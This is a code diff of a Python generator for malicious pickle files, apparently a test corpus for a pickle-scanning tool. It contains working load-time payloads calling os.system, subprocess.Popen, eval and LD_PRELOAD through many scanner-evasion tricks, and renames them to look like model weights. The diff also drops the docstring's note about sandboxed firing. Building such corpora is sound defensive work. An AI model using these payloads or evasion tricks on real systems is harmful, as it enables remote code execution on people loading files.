@@ -1,7 +1,6 @@
 """Pickles that act when they are loaded, written opcode by opcode: gadgets of many libraries, ways to hide a call, things that go off later.
 
-Nothing here is ever loaded by the evaluation but in `scan.py --fire`, in a process of its own, where all that a payload can do is to make the
-canary file. A file counts as malicious by construction: it calls, constructs or stores for later something that acts on more than its arguments.
+Nothing here is ever loaded by the evaluation. A file counts as malicious by construction: it calls, constructs or stores for later something that acts on more than its arguments.
 Frozen by digest before anything was tuned on it (scan.py, `FROZEN`).
 """
 
@@ -9,7 +8,7 @@ from __future__ import annotations
 
 import random
 import struct
-from collections.abc import Callable, Iterator
+from collections.abc import Iterator
 from dataclasses import dataclass, field
 
 CANARY = "/tmp/vouchgate-canary/fired"
@@ -719,14 +718,33 @@ def _hidden() -> Iterator[tuple[str, bytes]]:
     yield "dup-then-call", whole(system + b"2" + plain((COMMAND,)) + b"R0.")
     yield "call-then-pop", whole(boom() + b"0" + plain({"weights": [1.0, 2.0]}))
     yield "call-inside-popped-mark", whole(b"(" + boom() + b"1" + plain([1]))
-    yield "memo-overwritten", whole(plain("math") + b"q\x00" + plain("os") + b"q\x00" + b"0h\x00" + plain("system") + b"\x93" + plain((COMMAND,)) + b"R")
+    yield (
+        "memo-overwritten",
+        whole(plain("math") + b"q\x00" + plain("os") + b"q\x00" + b"0h\x00" + plain("system") + b"\x93" + plain((COMMAND,)) + b"R"),
+    )
     yield "names-from-memo", whole(text("os") + b"\x940" + text("system") + b"\x940" + b"h\x00h\x01\x93" + plain((COMMAND,)) + b"R")
-    yield "long-memo-index", whole(text("os") + b"r" + struct.pack("<I", 70_000) + b"0j" + struct.pack("<I", 70_000) + text("system") + b"\x93" + plain((COMMAND,)) + b"R")
+    yield (
+        "long-memo-index",
+        whole(
+            text("os")
+            + b"r"
+            + struct.pack("<I", 70_000)
+            + b"0j"
+            + struct.pack("<I", 70_000)
+            + text("system")
+            + b"\x93"
+            + plain((COMMAND,))
+            + b"R"
+        ),
+    )
     yield "text-memo-index", whole(b"Vos\np7\n0g7\n" + b"Vsystem\n\x93" + plain((COMMAND,)) + b"R")
     yield "unicode-escape-name", whole(b"V\\u006fs\nVsys\\u0074em\n\x93" + plain((COMMAND,)) + b"R")
     yield "string-hex-escape", whole(b"S'\\x6f\\x73'\nS'system'\n\x93" + plain((COMMAND,)) + b"R")
     yield "binstring-name", whole(b"U\x02osU\x06system\x93" + plain((COMMAND,)) + b"R")
-    yield "binunicode8-name", whole(b"\x8d" + struct.pack("<Q", 2) + b"os" + b"\x8d" + struct.pack("<Q", 6) + b"system\x93" + plain((COMMAND,)) + b"R")
+    yield (
+        "binunicode8-name",
+        whole(b"\x8d" + struct.pack("<Q", 2) + b"os" + b"\x8d" + struct.pack("<Q", 6) + b"system\x93" + plain((COMMAND,)) + b"R"),
+    )
     yield "dotted-through-reexport", whole(name("posixpath", "os.system") + plain((COMMAND,)) + b"R")
     yield "dotted-through-numpy", whole(name("numpy.lib._npyio_impl", "os.system") + plain((COMMAND,)) + b"R")
     yield "dotted-through-sklearn", whole(name("sklearn.utils.validation", "warnings.sys.modules") + b".")
@@ -746,7 +764,10 @@ def _hidden() -> Iterator[tuple[str, bytes]]:
     yield "frame-too-short", b"\x80\x04\x95" + struct.pack("<Q", 4) + boom() + b"."
     yield "frame-too-long", b"\x80\x04\x95" + struct.pack("<Q", 4000) + boom() + b"."
     yield "frame-in-frame", b"\x80\x04\x95" + struct.pack("<Q", 100) + b"\x95" + struct.pack("<Q", 50) + boom() + b"."
-    yield "frame-straddled-by-text", b"\x80\x04\x95" + struct.pack("<Q", 3) + text("os") + text("system") + b"\x93" + plain((COMMAND,)) + b"R."
+    yield (
+        "frame-straddled-by-text",
+        b"\x80\x04\x95" + struct.pack("<Q", 3) + text("os") + text("system") + b"\x93" + plain((COMMAND,)) + b"R.",
+    )
     yield "extension-registry", whole(b"\x82\x01" + plain((COMMAND,)) + b"R")
     yield "extension-registry-4", whole(b"\x84\x01\x00\x00\x00" + plain((COMMAND,)) + b"R")
     yield "persistent-id", whole(b"Pos.system\n" + plain((COMMAND,)) + b"R")
@@ -764,9 +785,15 @@ def _hidden() -> Iterator[tuple[str, bytes]]:
     yield "build-on-a-function", whole(name("math", "sqrt") + plain({"x": 1}) + b"b")
     yield "build-slots-on-a-class", whole(name("json", "JSONEncoder") + plain((None, {"default": SYSTEM})) + b"b")
     yield "build-class-attribute", whole(estimator("collections", "UserDict", {"__class__": Raw(name("subprocess", "Popen"))}))
-    yield "build-setstate-in-instance", whole(estimator("sklearn.preprocessing._data", "StandardScaler", {"__setstate__": SYSTEM}) + plain(COMMAND) + b"b")
+    yield (
+        "build-setstate-in-instance",
+        whole(estimator("sklearn.preprocessing._data", "StandardScaler", {"__setstate__": SYSTEM}) + plain(COMMAND) + b"b"),
+    )
     yield "build-getattr-in-instance", whole(estimator("sklearn.pipeline", "Pipeline", {"__getattr__": SYSTEM}))
-    yield "build-two-states", whole(estimator("sklearn.preprocessing._data", "StandardScaler", {}) + plain((None, {"__dict__": SYSTEM})) + b"b")
+    yield (
+        "build-two-states",
+        whole(estimator("sklearn.preprocessing._data", "StandardScaler", {}) + plain((None, {"__dict__": SYSTEM})) + b"b"),
+    )
     yield "setitem-on-made-object", whole(call("os", "environ.__class__") + plain("LD_PRELOAD") + plain("/tmp/x.so") + b"s")
     yield "setitems-on-a-name", whole(name("os", "environ") + b"(" + plain("LD_PRELOAD") + plain("/tmp/x.so") + b"u")
     yield "setitem-into-modules", whole(name("sys", "modules") + plain("json") + SYSTEM.code + b"s")
@@ -775,8 +802,14 @@ def _hidden() -> Iterator[tuple[str, bytes]]:
     yield "additems-on-a-name", whole(name("sys", "builtin_module_names") + b"(" + plain("x") + b"\x90")
     yield "result-called-again", whole(call("functools", "partial", SYSTEM, COMMAND) + b")R")
     yield "partial-of-partial", whole(call("functools", "partial", Raw(call("functools", "partial", SYSTEM)), COMMAND) + b")R")
-    yield "getattr-chain-deep", whole(call("builtins", "getattr", Raw(call("builtins", "getattr", Raw(call("builtins", "__import__", "os")), "path")), "os"))
-    yield "methodcaller-replace", whole(call("operator", "methodcaller", "system", COMMAND) + plain((Raw(call("importlib", "import_module", "os")),)) + b"R")
+    yield (
+        "getattr-chain-deep",
+        whole(call("builtins", "getattr", Raw(call("builtins", "getattr", Raw(call("builtins", "__import__", "os")), "path")), "os")),
+    )
+    yield (
+        "methodcaller-replace",
+        whole(call("operator", "methodcaller", "system", COMMAND) + plain((Raw(call("importlib", "import_module", "os")),)) + b"R"),
+    )
     yield "map-into-list", whole(call("builtins", "list", Raw(call("builtins", "map", SYSTEM, [COMMAND]))))
     yield "map-into-deque", whole(call("collections", "deque", Raw(call("builtins", "map", SYSTEM, [COMMAND]))))
     yield "map-into-bytearray", whole(call("builtins", "bytearray", Raw(call("builtins", "map", SYSTEM, [COMMAND]))))
@@ -798,7 +831,7 @@ def _hidden() -> Iterator[tuple[str, bytes]]:
     yield "exception-with-cause", whole(call("builtins", "Exception", Raw(boom())))
     yield "in-set", whole(b"\x8f(" + boom() + b"\x90")
     yield "in-frozenset", whole(b"(" + boom() + b"\x91")
-    yield "as-key", whole(b"}" + boom() + b"Ks" .replace(b"K", b"K\x01"))
+    yield "as-key", whole(b"}" + boom() + b"Ks".replace(b"K", b"K\x01"))
     yield "in-tuple3", whole(b"NN" + boom() + b"\x87")
     yield "in-persistent-id", whole(plain(("storage", Raw(boom()))) + b"Q")
     yield "after-many-floats", whole(b"]" + b"(" + (b"G" + bytes(8)) * 50_000 + b"e" + boom() + b"a")
@@ -806,13 +839,22 @@ def _hidden() -> Iterator[tuple[str, bytes]]:
     yield "after-long-bytes", whole(b"\x8e" + struct.pack("<Q", 1 << 20) + bytes(1 << 20) + b"0" + boom())
     yield "after-deep-lists", whole(b"]" * 5_000 + b"0" * 4_999 + b"0" + boom())
     yield "in-global-class-argument", whole(call("collections", "OrderedDict", [(1, Raw(boom()))]))
-    yield "numpy-reconstruct-other-class", whole(call("numpy.core.multiarray", "_reconstruct", Raw(name("subprocess", "Popen")), (0,), b"b"))
+    yield (
+        "numpy-reconstruct-other-class",
+        whole(call("numpy.core.multiarray", "_reconstruct", Raw(name("subprocess", "Popen")), (0,), b"b")),
+    )
     yield "numpy-reconstruct-memmap", whole(call("numpy._core.multiarray", "_reconstruct", Raw(name("numpy", "memmap")), (0,), b"b"))
     yield "numpy-dtype-eval", whole(call("numpy", "dtype", f"__import__('os').system('{COMMAND}')"))
     yield "numpy-scalar-object", whole(call("numpy.core.multiarray", "scalar", Raw(call("numpy", "dtype", "O8", False, True)), Raw(boom())))
     yield "torch-rebuild-with-call", whole(call("torch._utils", "_rebuild_tensor_v2", Raw(boom()), 0, (1,), (1,), False, {}))
-    yield "torch-parameter-hook", whole(call("torch._utils", "_rebuild_parameter", 1, True, Raw(call("collections", "OrderedDict", [(0, SYSTEM)]))))
-    yield "reconstructor-acting-base", whole(call("copyreg", "_reconstructor", Raw(name("collections", "OrderedDict")), Raw(name("subprocess", "Popen")), Raw(boom())))
+    yield (
+        "torch-parameter-hook",
+        whole(call("torch._utils", "_rebuild_parameter", 1, True, Raw(call("collections", "OrderedDict", [(0, SYSTEM)])))),
+    )
+    yield (
+        "reconstructor-acting-base",
+        whole(call("copyreg", "_reconstructor", Raw(name("collections", "OrderedDict")), Raw(name("subprocess", "Popen")), Raw(boom()))),
+    )
     yield "datetime-of-a-call", whole(call("datetime", "datetime", Raw(boom())))
     yield "uuid-with-state", whole(estimator("uuid", "UUID", {"int": SYSTEM}))
     yield "str-repeat", whole(call("operator", "mul", "A", 10**9))
@@ -893,7 +935,14 @@ def gadgets() -> Iterator[Item]:
         dotted = "." in qualified
         protocol = 4 if dotted else (0, 2, 4, 5)[index % 4]
         label = f"{module}.{qualified}"
-        yield Item(f"g{index:04d}.pkl", "pickle", f"gadget:{label}", whole(call(module, qualified, *arguments, protocol=4) if dotted else _call_in(protocol, module, qualified, arguments), protocol))
+        yield Item(
+            f"g{index:04d}.pkl",
+            "pickle",
+            f"gadget:{label}",
+            whole(
+                call(module, qualified, *arguments, protocol=4) if dotted else _call_in(protocol, module, qualified, arguments), protocol
+            ),
+        )
 
 
 def _call_in(protocol: int, module: str, qualified: str, arguments: tuple[object, ...]) -> bytes:
@@ -914,11 +963,17 @@ def items() -> Iterator[Item]:
 def rewritten(item: Item, seed: int) -> Iterator[Item]:
     """The same program with other names, other opcodes, another memo, inside other wrappings; for pickles of protocol 4 and later."""
     assert isinstance(item.content, bytes)
-    draw = random.Random(seed)  # noqa: S311
+    draw = random.Random(seed)
     body = item.content
-    yield Item(draw.choice(("model.bin", "weights.txt", "data.json", "tok.safetensors", "x")), item.family, f"renamed:{item.technique}", body)
+    yield Item(
+        draw.choice(("model.bin", "weights.txt", "data.json", "tok.safetensors", "x")), item.family, f"renamed:{item.technique}", body
+    )
     if body[:2] == b"\x80\x04":
-        padded = b"".join(draw.choice((b"N0", b"K\x070", b")0", b"]0", text("pad") + b"0", b"}\x940")) for _ in range(draw.randrange(1, 60)))
+        padded = b"".join(
+            draw.choice((b"N0", b"K\x070", b")0", b"]0", text("pad") + b"0", b"}\x940")) for _ in range(draw.randrange(1, 60))
+        )
         yield Item(item.name, item.family, f"padded:{item.technique}", b"\x80\x05" + padded + body[2:])
         inside = body[2:-1]
-        yield Item(item.name, item.family, f"wrapped:{item.technique}", whole(b"}" + text("state_dict") + b"(" + plain(1.5) + inside + b"l" + b"s"))
+        yield Item(
+            item.name, item.family, f"wrapped:{item.technique}", whole(b"}" + text("state_dict") + b"(" + plain(1.5) + inside + b"l" + b"s")
+        )
